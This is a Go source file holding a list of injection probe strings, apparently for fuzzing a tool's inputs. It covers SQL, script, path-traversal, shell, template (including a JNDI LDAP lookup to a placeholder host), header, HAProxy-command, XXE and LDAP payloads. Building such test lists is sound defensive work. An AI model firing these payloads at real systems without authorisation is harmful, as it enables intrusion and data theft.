package probes

// What scanners put wherever a text goes: each means something to a program
// behind, and nothing here. Written by the kind of thing that they are after.
var words = map[string][]string{
	"SQL": {
		`' OR '1'='1`, `1; DROP TABLE holds--`, `" OR ""="`, `1 UNION SELECT NULL,NULL--`, `'; WAITFOR DELAY '0:0:5'--`, `1) AND SLEEP(5)#`,
	},
	"browser": {
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `<svg/onload=alert(1)>`, `'-alert(1)-'`, "\u2028alert(1)",
	},
	"path": {
		`../../../../etc/passwd`, `..\..\windows\win.ini`, `....//....//etc/passwd`, `/etc/passwd`, `file:///etc/passwd`, `sluice.yml`, `data/sluice.db`,
	},
	"shell": {
		`; id`, `| id`, "`id`", `$(id)`, `& ping -c 1 127.0.0.1 &`, `|| true`, `> /tmp/x`,
	},
	"template": {
		`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `#{7*7}`, `{{.}}`, `${jndi:ldap://192.0.2.1/a}`, `%{(#a='b')}`,
	},
	"header": {
		"a\r\nSet-Cookie: x=y", "a\nLocation: https://example.com", "a\r\n\r\n<html>",
	},
	"HAProxy": {
		"web01;set server shop/web01 state maint", "web01\nset server shop/web01 state maint", "web01 state maint\n", `web01\ state`, "web01 <<\n", "web01\x00set server shop/web01 state maint",
		"@1 set server shop/web01 state maint", "shop/web01", "web01 addr 192.0.2.66",
	},
	"XML and LDAP": {
		`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, `*)(uid=*))(|(uid=*`,
	},
	"terminal": {"\x1b[2J\x1b[31mred", "\x07\x08\x7f", "a\rb"},
	"text": {
		"", " ", "\x00", "%00", "%", "%s%n%x", "-1", "0", "99999999999999999999", "1e999", "NaN", "null", "true", "[]", "{}", "\xff\xfe", "\xc0\xae\xc0\xae/", "\u202egnp.exe", "ﬀ", "\ufeff",
	},
}
